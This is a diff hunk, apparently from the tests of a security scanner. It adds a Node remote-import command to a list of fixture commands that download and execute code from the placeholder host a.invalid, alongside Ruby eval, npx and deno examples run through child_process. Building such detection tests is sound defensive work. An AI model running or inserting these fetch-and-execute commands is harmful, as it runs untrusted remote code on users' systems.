@@ -197,6 +197,7 @@ const run = (texts, ...values) => cp.execSync(texts.raw.join('')); run\`curl -s 
       `ruby -ropen-uri -e "eval(URI.open('https://a.invalid').read)"`,
       `npx -y https://a.invalid/x.tgz`,
       `deno run -A https://a.invalid/x.ts`,
+      `node --experimental-network-imports -e 'import "https://a.invalid/x.mjs"'`,
     ].map(line => ({
       when: `a command does so: ${line}`,
       files: { 'index.js': `require('child_process').exec(${JSON.stringify(line)})` },
